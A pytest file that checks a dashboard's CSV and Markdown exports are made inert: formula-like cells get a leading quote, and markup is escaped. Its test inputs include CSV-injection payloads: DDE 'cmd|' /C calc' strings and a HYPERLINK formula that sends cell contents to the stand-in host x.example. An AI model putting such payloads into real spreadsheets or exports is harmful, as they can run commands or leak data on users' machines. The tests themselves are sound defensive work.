"""Exports that cannot execute: no CSV cell a spreadsheet would run, no Markdown a reader would
render as markup."""
from __future__ import annotations

import csv
import io

import duckdb
import pandas as pd
import pytest

from gcmdash.site import publish
from gcmdash.views import exports, queries

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_be_a_formula_is_text(text):
    assert exports.spreadsheet_safe(text) == "'" + text.replace("\r", "\n")


def test_a_carriage_return_cannot_split_a_row():
    df = pd.DataFrame({"Name": ["one\rtwo", "three\r\nfour"], "Source": ["x", "y"]})
    assert _cells(publish.csv_bytes(df)) == [["Name", "Source"], ["one\ntwo", "x"],
                                             ["three\nfour", "y"]]


@pytest.mark.parametrize("value", ["-3", "+1.5", "12%", "Geneva", "a = b", "", "'quoted",
                                   7, -2, None])
def test_other_cells_are_unchanged(value):
    assert exports.spreadsheet_safe(value) == value


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or \
                exports.spreadsheet_safe(cell) == cell, cell


@pytest.fixture(scope="module")
def recommendations(seed_db) -> pd.DataFrame:
    with duckdb.connect(str(seed_db), read_only=True) as con:
        return queries.recommendations(con)


def test_recommendations_csv_neutralises_texts_sources_and_names(recommendations):
    df = recommendations.head(len(ATTACKS)).copy()
    df["text"] = ATTACKS
    df["source_label"] = ["@" + s for s in df["source_label"]]
    df["area_heading"] = "=HEADING()"
    rows = _cells(exports.recommendations_csv(df))
    _no_formula(rows)
    header, body = rows[0], rows[1:]
    texts = [r[header.index("Recommendation")] for r in body]
    assert texts == ["'" + t.replace("\r", "\n") for t in ATTACKS]
    assert all(r[header.index("Source")].startswith("'@") for r in body)
    assert all("=HEADING()" in r[header.index("Area")] for r in body)
    assert [int(r[header.index("First line")]) for r in body] == list(df["line_start"])


def test_published_csv_neutralises_names_and_sources():
    df = pd.DataFrame({"=Name": ["+cmd|' /C calc'!A0", "Ms. A"], "Count": [3, -4],
                       "Source": ["@SUM(1)", "https://example.org"]})
    rows = _cells(publish.csv_bytes(df))
    _no_formula(rows)
    assert rows == [["'=Name", "Count", "Source"], ["'+cmd|' /C calc'!A0", "3", "'@SUM(1)"],
                    ["Ms. A", "-4", "https://example.org"]]


def test_the_markdown_brief_escapes_what_a_reader_would_interpret(recommendations):
    df = recommendations.head(1).copy()
    df["text"] = ["**bold** [link](http://x.example) <b>html</b> &amp; ~~gone~~ a|b"]
    brief = exports.markdown_brief(df)
    line = next(x for x in brief.splitlines() if x.startswith("- **"))
    assert ("\\*\\*bold\\*\\* \\[link\\](http://x.example) \\<b\\>html\\</b\\> \\&amp; "
            "\\~\\~gone\\~\\~ a\\|b") in line
